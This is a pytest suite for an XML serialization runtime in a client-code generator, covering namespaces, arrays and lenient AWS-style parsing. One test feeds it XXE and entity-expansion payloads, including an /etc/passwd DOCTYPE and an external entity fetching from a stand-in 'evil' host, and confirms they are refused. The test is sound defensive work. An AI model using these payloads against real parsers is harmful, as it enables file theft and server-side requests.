"""The client runtime's XML bodies (generator/runtime/client/xmlbodies.py), imported directly with the
shapes of a stand-in ``_xml`` module: element names, attributes, wrapped and unwrapped arrays,
namespaces and prefixes, both ways; lenient reading (local names, AWS ``<XResult>``, ``member``);
DTDs, entities and broken documents refused. (tests/test_xml.py runs a generated package.)"""

from __future__ import annotations

import sys
import types
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from typing import Any, Optional

import pydantic
import pytest

from generator.runtime.client import xmlbodies as xb
from generator.runtime.client.xmlbodies import XmlError, XmlField, XmlModel, parse, read, shapes, write

NS = "https://example.com/pets"
SHAPES = {
    "Category": XmlModel("Category", (XmlField("id", "id", attribute=True), XmlField("name", "name"))),
    "Owner": XmlModel("owner", (XmlField("name", "name"), XmlField("since", "from", attribute=True))),
    "Pet": XmlModel("pet", (
        XmlField("id", "id", attribute=True),
        XmlField("name", "Name"),
        XmlField("tags", "Tags", many=True, wrapped=True, item="Tag"),
        XmlField("photoUrls", "photoUrls", many=True, item="photoUrl"),
        XmlField("category", "category", model="Category"),
        XmlField("owners", "owners", many=True, wrapped=True, item="owner", model="Owner"),
        XmlField("code", "code", namespace="urn:codes", prefix="c"),
        XmlField("lang", "lang", attribute=True, namespace="http://www.w3.org/XML/1998/namespace-x", prefix="x"),
    ), namespace=NS, prefix="p"),
    "PetList": XmlModel("pets", (
        XmlField("pets", "pets", many=True, item="pet", model="Pet"),
        XmlField("total", "total", attribute=True),
    )),
    "Plain": XmlModel("plain", (XmlField("value", "value"),), namespace="urn:plain"),
}


class Category(pydantic.BaseModel):
    id: int | None = None
    name: str | None = None


class Owner(pydantic.BaseModel):
    name: str
    since: int | None = None


class Pet(pydantic.BaseModel):
    model_config = pydantic.ConfigDict(populate_by_name=True)
    id: int
    name: str
    tags: list[str] | None = None
    photo_urls: list[str] | None = pydantic.Field(None, alias="photoUrls")
    category: Category | None = None
    owners: list[Owner] | None = None
    code: str | None = None
    lang: str | None = None


class PetList(pydantic.BaseModel):
    pets: list[Pet]
    total: int


class Plain(pydantic.BaseModel):
    value: str


@pytest.fixture(autouse=True)
def xml_module(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The shapes as a generated package's ``_xml`` module (here the runtime's package is
    ``generator``: ``generator._xml``)."""
    module = types.ModuleType("generator._xml")
    module.SHAPES = SHAPES  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "generator._xml", module)
    shapes.cache_clear()
    yield
    shapes.cache_clear()


def pet() -> Pet:
    return Pet(id=7, name="Rex & <Co>", tags=["good", "dog"], photo_urls=["a.png", "b.png"],
               category=Category(id=3, name="dogs"), owners=[Owner(name="Ann", since=2019), Owner(name="Bob")],
               code="X1", lang="en")


# --------------------------------------------------------------------------- shapes


def test_shapes_come_from_the_packages_xml_module(monkeypatch: pytest.MonkeyPatch) -> None:
    assert shapes("generator") is SHAPES
    monkeypatch.delitem(sys.modules, "generator._xml")
    shapes.cache_clear()
    assert shapes("generator") == {}  # a package without XML bodies


# --------------------------------------------------------------------------- parse


def test_parse_gives_elements_with_namespaces_in_clark_notation() -> None:
    root = parse('<p:pet xmlns:p="urn:p" xmlns:q="urn:q" q:id="1"><Name>Rex</Name></p:pet>')
    assert root.tag == "{urn:p}pet" and root.attrib == {"{urn:q}id": "1"}
    assert [(c.tag, c.text) for c in root] == [("Name", "Rex")]
    assert parse(b"<a>\xc3\xa9</a>").text == "\u00e9"


@pytest.mark.parametrize("doc", [
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><pet>&lol2;</pet>',
    b'<!DOCTYPE pet SYSTEM "file:///etc/passwd"><pet/>',
    b'<!DOCTYPE pet [<!ENTITY % p SYSTEM "http://evil/x">%p;]><pet/>',
    b'<!DOCTYPE pet><pet/>',
])
def test_dtds_and_entities_are_refused(doc: bytes) -> None:
    with pytest.raises(XmlError, match="DTD"):
        parse(doc)
    with pytest.raises(XmlError):
        read(doc, Pet)


@pytest.mark.parametrize("doc", [b"<pet><Name>unclosed</pet>", b"", b"not xml", b"<a/><b/>", b"<a>&undefined;</a>"])
def test_broken_documents_are_refused(doc: bytes) -> None:
    with pytest.raises(XmlError, match="not XML"):
        parse(doc)
    assert issubclass(XmlError, ValueError)


# --------------------------------------------------------------------------- writing


def test_the_writer_follows_the_xml_object() -> None:
    body = write(pet())
    assert body.startswith(b"<?xml version='1.0' encoding='utf-8'?>")
    root = ET.fromstring(body)
    assert root.tag == f"{{{NS}}}pet" and root.get("id") == "7"  # model name, namespace, attribute
    assert root.find("Name").text == "Rex & <Co>"  # property renamed; text escaped
    assert [t.text for t in root.find("Tags").findall("Tag")] == ["good", "dog"]  # wrapped
    assert [p.text for p in root.findall("photoUrl")] == ["a.png", "b.png"]  # not wrapped
    assert root.find("photoUrls") is None
    assert root.find("category").get("id") == "3" and root.find("category/name").text == "dogs"
    owners = root.find("owners").findall("owner")
    assert [(o.get("from"), o.find("name").text) for o in owners] == [("2019", "Ann"), (None, "Bob")]
    assert root.find("{urn:codes}code").text == "X1"  # the property's own namespace
    assert root.get("{http://www.w3.org/XML/1998/namespace-x}lang") == "en"  # a namespaced attribute


def test_the_writer_uses_prefixes_and_leaves_out_unset_fields() -> None:
    text = write(Pet(id=1, name="a")).decode()
    assert f'<p:pet xmlns:p="{NS}" id="1"><Name>a</Name></p:pet>' in text
    assert "xmlns=" not in write(Pet(id=1, name="a")).decode()
    assert b'<plain xmlns="urn:plain"><value>v</value></plain>' in write(Plain(value="v"))  # no prefix


def test_writing_lists_and_data_without_a_shape() -> None:
    listed = ET.fromstring(write([Pet(id=1, name="a"), Pet(id=2, name="b")], list[Pet]))
    assert listed.tag == "Pets" and [(c.tag, c.get("id")) for c in listed] == [(f"{{{NS}}}pet", "1"),
                                                                               (f"{{{NS}}}pet", "2")]
    nested = ET.fromstring(write(PetList(pets=[Pet(id=1, name="a")], total=1)))
    assert nested.tag == "pets" and nested.get("total") == "1" and nested.find(f"{{{NS}}}pet/Name").text == "a"
    plain = ET.fromstring(write({"a": 1, "b": [True, False], "c": None, "d": {"e": "f"}}))
    assert plain.tag == "root" and [(c.tag, c.text) for c in plain] == [
        ("a", "1"), ("b", "true"), ("b", "false"), ("d", None)]
    assert plain.find("d/e").text == "f"
    items = ET.fromstring(write([1, 2]))
    assert items.tag == "items" and [c.text for c in items] == ["1", "2"] and items[0].tag == "item"
    # A shaped model's fields the shape does not know are still written, by their JSON names.
    extra = ET.fromstring(write({"id": 4, "name": "x", "extra": "y"}, Pet))
    assert extra.get("id") == "4" and extra.find("extra").text == "y"


def test_a_list_of_models_is_written_with_their_shape_without_a_type() -> None:
    # A client's list body and a server's list answer are written without their declared type.
    pets = [Pet(id=1, name="a", tags=["t"]), Pet(id=2, name="b")]
    root = ET.fromstring(write(pets))
    assert root.tag == "Pets" and [(c.tag, c.get("id"), c.find("Name").text) for c in root] == [
        (f"{{{NS}}}pet", "1", "a"), (f"{{{NS}}}pet", "2", "b")]
    assert [Pet.model_validate(d) for d in read(write(pets), list[Pet])] == pets
    assert ET.fromstring(write([])).tag == "items"


# --------------------------------------------------------------------------- reading


def test_the_reader_reads_back_what_the_writer_wrote() -> None:
    original = pet()
    data = read(write(original), Pet)
    assert data["id"] == "7" and data["tags"] == ["good", "dog"] and data["photoUrls"] == ["a.png", "b.png"]
    assert Pet.model_validate(data) == original
    listed = PetList(pets=[original, Pet(id=8, name="Bo")], total=2)
    assert PetList.model_validate(read(write(listed), PetList)) == listed
    many = [Pet(id=1, name="a"), Pet(id=2, name="b")]
    assert [Pet.model_validate(d) for d in read(write(many, list[Pet]), list[Pet])] == many
    assert Pet.model_validate(read(write(original), Optional[Pet])) == original
    assert Pet.model_validate(read(write(original), Pet | None)) == original


def test_names_match_by_local_name_whatever_the_namespace() -> None:
    doc = '<x:pet xmlns:x="urn:other" xmlns:y="urn:y" y:id="5"><x:Name>Rex</x:Name><y:Tags><T>a</T></y:Tags></x:pet>'
    assert read(doc, Pet) == {"id": "5", "name": "Rex", "tags": ["a"]}


def test_the_reader_is_lenient_as_aws_answers_need() -> None:
    doc = b"""<?xml version="1.0"?>
    <GetPetResponse xmlns="https://aws.example/doc/2020-01-01/">
      <GetPetResult><Name>Rex</Name><Tags><member>a</member><member>b</member></Tags></GetPetResult>
      <ResponseMetadata><RequestId>r-1</RequestId></ResponseMetadata>
    </GetPetResponse>"""
    assert read(doc, Pet) == {"name": "Rex", "tags": ["a", "b"]}


def test_what_is_missing_is_left_out_and_text_for_an_object_stays_text() -> None:
    assert read("<pet><Name/><category>dogs</category></pet>", Pet) == {"name": "", "category": "dogs"}
    with pytest.raises(pydantic.ValidationError):  # the declared type refuses it
        Pet.model_validate(read("<pet id='1'><Name>a</Name><category>dogs</category></pet>", Pet))


def test_without_a_shape_elements_are_read_by_name() -> None:
    doc = "<r><a>1</a><b><c>x</c></b><d>1</d><d>2</d><d>3</d><e/></r>"
    assert read(doc, dict[str, Any]) == {"a": "1", "b": {"c": "x"}, "d": ["1", "2", "3"], "e": ""}
    assert read("<r>text</r>", str) == "text"
    assert read("<items><i>1</i><i>2</i></items>", list[int]) == ["1", "2"]


def test_the_generated_package_is_the_top_package() -> None:
    assert xb._top_package() == "generator"  # NAME._http.xmlbodies in a generated package: NAME
